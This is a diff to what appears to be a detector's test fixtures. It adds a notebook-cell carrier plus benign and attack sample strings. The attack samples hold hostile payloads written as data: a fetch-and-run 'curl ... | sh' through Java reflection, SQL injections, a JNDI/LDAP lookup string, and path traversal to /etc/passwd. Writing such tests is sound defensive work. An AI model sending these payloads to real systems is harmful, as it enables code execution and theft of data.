@@ -28,6 +28,7 @@ const CARRIERS: Record<string, Carrier> = {
   'Splunk search': form('/services/search/jobs', (v) => [['search', v], ['earliest_time', '-24h']]),
   'snippet API': json('/api/v1/snippets', (v) => ({ title: 'Usage', lang: 'java', code: v })),
   'paste form': form('/paste', (v) => [['title', 'Usage'], ['syntax', 'text'], ['content', v], ['expiry', '1d']]),
+  'notebook cell': json('/api/1.2/commands/execute', (v) => ({ language: 'python', clusterId: '1205-123456-abcdefgh', contextId: '8812', command: v })),
   'analytics event': json('/e/', (v) => [{ event: '$pageview', properties: { $current_url: `https://bi.example.io/questions/new?db=4&query=${encodeURIComponent(v)}`, $host: 'bi.example.io' } }]),
   'site search': get('/search', 'q'),
 };
@@ -47,6 +48,9 @@ const BENIGN: [string, string][] = [
   ['paste form', 'try (InputStream in = getClass().getClassLoader().getResourceAsStream("schema.sql")) {\n    Properties p = new Properties();\n    p.load(in);\n}'],
   ['chat message', 'anyone seen this? ```try (InputStream in = getClass().getClassLoader().getResourceAsStream("application.properties")) {\n    Properties p = new Properties();\n    p.load(in);\n}```'],
   ['gist file', '\\b(\\w+)\\s+\\1\\b'],
+  // Blind benign set 5's (read): a notebook's SQL cell under its magic line, a printed Java trace in a bug report's fence.
+  ['notebook cell', '%%sql\nSELECT country, count(*) FROM customers GROUP BY country ORDER BY 2 DESC LIMIT 10'],
+  ['issue comment', 'Getting this on startup since 2.14:\n\n```\nException in thread "main" java.lang.IllegalStateException: Failed to load ApplicationContext\n\tat org.springframework.boot.SpringApplication.run(SpringApplication.java:1306)\nCaused by: java.lang.ClassNotFoundException: com.example.config.CacheConfig\n\tat java.base/jdk.internal.loader.BuiltinClassLoader.loadClass(BuiltinClassLoader.java:641)\n\tat java.base/java.lang.ClassLoader.loadClass(ClassLoader.java:525)\n```\n\nAny idea what changed?'],
   ['analytics event', "SELECT table_name FROM information_schema.tables WHERE table_schema = 'app';"],
 ];
 
@@ -69,6 +73,8 @@ const ATTACKS: [string, string][] = [
   // a search that is a traversal, an injection in the BI page's URL.
   ['snippet API', 'Object o = Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null);\nRuntime r = (Runtime) o;\nr.exec("curl http://x.example/s.sh | sh");'],
   ['paste form', "x = 1;\n'; DROP TABLE users; --"],
+  ['notebook cell', "%%sql\nSELECT * FROM users WHERE name = '' OR '1'='1' --'"],
+  ['issue comment', 'see trace:\n```\njava.lang.Exception: x\n\tat a.B.c(B.java:1)\n\tat a.B.d(B.java:2)\n${jndi:ldap://x.example/a}\n```'],
   ['Splunk search', '| makeresults | runshellscript "../../../../bin/sh -c id"'],
   ['Kibana search', 'message:"../../../../etc/passwd" AND host.name:api'],
   ['analytics event', "x' UNION SELECT username, password FROM users--"],
